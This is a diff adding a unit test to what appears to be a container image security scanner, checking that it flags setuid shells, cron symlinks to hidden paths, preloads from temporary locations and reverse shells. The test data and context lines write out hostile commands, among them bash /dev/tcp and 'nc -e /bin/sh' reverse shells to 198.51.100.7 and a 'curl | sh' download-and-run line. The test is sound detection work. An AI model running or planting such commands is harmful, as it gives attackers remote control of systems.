@@ -5,6 +5,7 @@ import base64
 import ctypes
 import fcntl
 import gzip
+import io
 import json
 import os
 import pathlib
@@ -13,11 +14,13 @@ import signal
 import struct
 import subprocess
 import sys
+import tarfile
 import tempfile
 import unittest
 import uuid
 
 sys.path.insert(0, str(pathlib.Path(__file__).parent))
+import artifacts
 import images
 import imitations
 import patience
@@ -231,6 +234,34 @@ class Images(Scratch):
         self.assertIn(RULE, rules('variable', '--config.env', 'HOST=198.51.100.7', '--config.cmd', 'sh', '--config.cmd', '-c', '--config.cmd', 'curl -s http://$HOST/x | sh'))
         self.assertIn(RULE, rules('history', history=f'RUN /bin/sh -c {get} # buildkit'))
         self.assertEqual(rules('honest', history='RUN /bin/sh -c curl -fsSL https://deb.nodesource.example/setup_20.x | bash - # buildkit'), set())
+
+    def test_what_stands_in_links_bits_and_variables(self):
+        """A job of cron that is a link, a shell with root's rights, a library and a start file in the environment, a shell that is the command."""
+        def layer(*entries):
+            out = io.BytesIO()
+            with tarfile.open(fileobj=out, mode='w') as t:
+                for path, data, mode, link in entries:
+                    info = tarfile.TarInfo(path)
+                    info.mode, info.size = mode, len(data)
+                    if link:
+                        info.type, info.linkname, info.size = tarfile.SYMTYPE, link, 0
+                    t.addfile(info, None if link else io.BytesIO(data))
+            return out.getvalue()
+
+        def rules(config, *entries):
+            one = layer(('etc/os-release', b'PRETTY_NAME="Imitation 1"\n', 0o644, None), *entries)
+            image = artifacts.Artifact('', artifacts.OCI_CONFIG, artifacts.rootfs(one, os='linux', architecture='amd64', config=config), [(artifacts.OCI_LAYER, None, one)])
+            report, _ = scan(image.layout(pathlib.Path(tempfile.mkdtemp(dir=self.temp)) / 'image'))
+            return {f['rule'] for f in findings(report['targets'][0], 'warning')}
+        elf = imitations.tiny_elf()
+        self.assertEqual(rules({}, ('etc/cron.d/job', b'', 0o777, '/var/tmp/.x/job'), ('etc/cron.d/ok', b'', 0o777, '/usr/share/app/cron')), {'Start by a link to an odd place'})
+        self.assertEqual(rules({}, ('bin/bash', elf, 0o4755, None), ('bin/su', elf + b'\0', 0o4755, None)), {"Shell or interpreter with its owner's rights"})
+        self.assertEqual(rules({'Env': ['LD_PRELOAD=/tmp/davytest.so'], 'Cmd': ['/app']}), {'Library preloaded from a temporary or hidden place'})
+        self.assertEqual(rules({'Env': ['PYTHONSTARTUP=/dev/shm/davytest.py'], 'Cmd': ['/app']}), {'Code loaded from a temporary or hidden place'})
+        self.assertEqual(rules({'Cmd': ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1']}), {'Reverse shell'})
+        self.assertEqual(rules({'Cmd': ['nc', '-e', '/bin/sh', '198.51.100.7', '443']}), {'Reverse shell'})
+        self.assertEqual(rules({'Env': ['LD_PRELOAD=/usr/lib/libjemalloc.so.2', 'NODE_OPTIONS=--max-old-space-size=512'], 'Cmd': ['nc', '-l', '8080']},
+                               ('home/a/.bashrc', b'', 0o777, '.dotfiles/bashrc')), set())
 
     def test_names(self):
         image = images.benign(self.temp)
